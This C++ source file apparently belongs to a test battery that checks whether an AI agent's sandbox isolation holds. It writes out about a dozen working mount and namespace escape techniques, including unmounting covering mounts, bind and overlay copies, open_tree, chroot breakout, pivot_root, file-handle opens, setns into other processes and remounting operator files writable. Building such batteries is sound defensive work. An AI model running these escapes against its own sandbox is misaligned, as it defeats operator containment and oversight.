// In a user namespace an agent is root over mounts of its own. What was mounted over a secret before must stay there.
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "tools.h"

namespace oc::battery {

namespace {

constexpr int openTree = 428, openTreeClone = 1;

std::string secretOf(const Targets& t) { return t["own"] + "/secret"; }

// A directory for it, in the workspace.
std::string place(const Targets& t, const char* name) {
  auto path = t["workspace"] + "/attack-" + name;
  mkdir(path.c_str(), 0700);
  return path;
}

// The path of `file` as seen from `above`.
std::string below(const std::string& file, const std::string& above) {
  return file.substr(above == "/" ? 1 : above.size() + 1);
}

Result liftTheCover(const Targets& t) {
  if (int error = ownNamespaces()) return held(error);
  int error = 0;
  auto above = directoriesAbove(secretOf(t));
  for (auto directory = above.rbegin(); directory != above.rend(); ++directory) {
    if (umount2(directory->c_str(), MNT_DETACH) < 0) error = errno;
  }
  auto result = readPath(secretOf(t), t);
  return result.kind == Result::Kind::Through ? result : held(error);
}

// Mounts each directory above the secret at `copy`, where what covers the secret may not be.
template <typename Mount>
Result mountWhatIsAbove(const Targets& t, const std::string& copy, Mount&& mountAt) {
  int error = 0;
  for (auto& above : directoriesAbove(secretOf(t))) {
    if (mountAt(above) < 0) {
      error = errno;
      continue;
    }
    auto result = readPath(copy + "/" + below(secretOf(t), above), t);
    if (result.kind == Result::Kind::Through) return result;
    error = result.error;
    umount2(copy.c_str(), MNT_DETACH);
  }
  return held(error);
}

Result copyWithoutMounts(const Targets& t) {
  if (int error = ownNamespaces()) return held(error);
  auto copy = place(t, "bind");
  return mountWhatIsAbove(t, copy, [&copy](const std::string& above) {
    return mount(above.c_str(), copy.c_str(), nullptr, MS_BIND, nullptr);
  });
}

Result openTheTree(const Targets& t) {
  if (int error = ownNamespaces()) return held(error);
  int error = 0;
  for (auto& above : directoriesAbove(secretOf(t))) {
    File tree(static_cast<int>(syscall(openTree, AT_FDCWD, above.c_str(), openTreeClone | O_CLOEXEC)));
    if (!tree) {
      error = errno;
      continue;
    }
    File file(openat(tree.get(), below(secretOf(t), above).c_str(), O_RDONLY | O_CLOEXEC));
    if (!file) {
      error = errno;
    } else if (readFrom(file.get(), t).kind == Result::Kind::Through) {
      return through();
    }
  }
  return held(error);
}

Result overlayTheTree(const Targets& t) {
  if (int error = ownNamespaces()) return held(error);
  auto copy = place(t, "overlay"), empty = place(t, "empty");
  return mountWhatIsAbove(t, copy, [&copy, &empty](const std::string& above) {
    auto options = "lowerdir=" + above + ":" + empty;
    return mount("overlay", copy.c_str(), "overlay", 0, options.c_str());
  });
}

Result moveTheCover(const Targets& t) {
  if (int error = ownNamespaces()) return held(error);
  auto aside = place(t, "aside");
  int error = 0;
  // Outside nothing covers it, so there a cover is made first, as somebody else's would be.
  for (auto& above : directoriesAbove(secretOf(t))) {
    if (mount(above.c_str(), aside.c_str(), nullptr, MS_MOVE, nullptr) < 0) error = errno;
  }
  auto result = readPath(secretOf(t), t);
  return result.kind == Result::Kind::Through ? result : held(error);
}

Result leaveTheRoot(const Targets& t) {
  if (int error = ownNamespaces()) return held(error);
  File root(open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC));
  auto jail = place(t, "jail");
  if (chroot(jail.c_str()) < 0) return held(errno);
  if (fchdir(root.get()) < 0) return held(errno);
  for (int i = 0; i < 40; ++i) {
    if (chdir("..") < 0) return held(errno);
  }
  if (chroot(".") < 0) return held(errno);
  return readPath(secretOf(t), t);
}

Result pivotTheRoot(const Targets& t) {
  if (int error = ownNamespaces()) return held(error);
  auto root = place(t, "pivot");
  if (mount(nullptr, "/", nullptr, MS_REC | MS_PRIVATE, nullptr) < 0) return held(errno);
  if (mount(root.c_str(), root.c_str(), nullptr, MS_BIND, nullptr) < 0) return held(errno);
  mkdir((root + "/old").c_str(), 0700);
  if (syscall(SYS_pivot_root, root.c_str(), (root + "/old").c_str()) < 0) return held(errno);
  return readPath("/old" + secretOf(t), t);
}

// The stand has a process with a file that only its own namespace shows.
Result enterAnothers(const Targets& t) {
  if (!t.has("lodger")) return absent();
  int error = ESRCH;
  auto others = otherProcesses();
  others.push_back(static_cast<pid_t>(t.number("lodger")));
  for (pid_t pid : others) {
    auto namespaces = "/proc/" + std::to_string(pid) + "/ns/";
    File user(open((namespaces + "user").c_str(), O_RDONLY | O_CLOEXEC)),
        mounts(open((namespaces + "mnt").c_str(), O_RDONLY | O_CLOEXEC));
    if (!user || !mounts) {
      error = errno;
      continue;
    }
    if (setns(user.get(), CLONE_NEWUSER) < 0 || setns(mounts.get(), CLONE_NEWNS) < 0) {
      error = errno;
      continue;
    }
    auto result = readPath(t["lodging"] + "/secret", t);
    if (result.kind == Result::Kind::Through) return result;
    error = result.error;
  }
  return held(error);
}

Result makeWritable(const Targets& t) {
  if (int error = ownNamespaces()) return held(error);
  int error = 0;
  auto path = t["outside"] + "/to-remount";
  for (auto& above : directoriesAbove(path)) {
    if (mount(nullptr, above.c_str(), nullptr, MS_REMOUNT | MS_BIND, nullptr) < 0) error = errno;
  }
  File file(open(path.c_str(), O_WRONLY | O_CLOEXEC));
  return file ? judge(write(file.get(), "x", 1)) : held(error != 0 && errno == EROFS ? EROFS : errno);
}

Result makeWritableByAttributes(const Targets& t) {
  if (int error = ownNamespaces()) return held(error);
  struct {
    uint64_t set, clear, propagation, userNamespace;
  } attributes = {0, 1 /* MOUNT_ATTR_RDONLY */, 0, 0};
  constexpr int mountSetattr = 442, recursive = 0x8000;
  auto path = t["outside"] + "/to-remount";
  syscall(mountSetattr, AT_FDCWD, "/", recursive, &attributes, sizeof(attributes));
  File file(open(path.c_str(), O_WRONLY | O_CLOEXEC));
  return file ? judge(write(file.get(), "x", 1)) : held(errno);
}

// A file by its number in the file system, whatever its name is covered by.
Result byHandle(const Targets& t) {
  if (!t.has("handle")) return absent();
  if (int error = ownNamespaces()) return held(error);
  struct {
    struct file_handle head;
    unsigned char bytes[128];
  } handle = {};
  auto hex = t["handle"];
  handle.head.handle_type = static_cast<int>(t.number("handle_type"));
  handle.head.handle_bytes = static_cast<unsigned>(hex.size() / 2);
  for (size_t i = 0; i < hex.size() / 2 && i < sizeof(handle.bytes); ++i) {
    handle.head.f_handle[i] = static_cast<unsigned char>(strtol(hex.substr(2 * i, 2).c_str(), nullptr, 16));
  }
  int error = 0;
  for (auto& place : {t["workspace"], std::string("/")}) {
    File above(open(place.c_str(), O_RDONLY | O_DIRECTORY | O_CLOEXEC));
    File file(open_by_handle_at(above.get(), &handle.head, O_RDONLY | O_CLOEXEC));
    if (!file) {
      error = errno;
    } else if (readFrom(file.get(), t).kind == Result::Kind::Through) {
      return through();
    }
  }
  return held(error);
}

}  // namespace

std::vector<Attack> mountTricks() {
  return {
      {"unmount what hides the state", "own", liftTheCover},
      {"bind the tree elsewhere without its mounts", "own", copyWithoutMounts},
      {"clone the tree by open_tree", "own", openTheTree},
      {"an overlay above the tree", "own", overlayTheTree},
      {"move what hides the state aside", "own", moveTheCover},
      {"climb out of a chroot", "own", leaveTheRoot},
      {"pivot the root away", "own", pivotTheRoot},
      {"open the state by its file handle", "own", byHandle},
      {"enter another process's namespaces", "process", enterAnothers},
      {"remount the operator's files writable", "write", makeWritable},
      {"mount_setattr without read-only", "write", makeWritableByAttributes},
  };
}

}  // namespace oc::battery
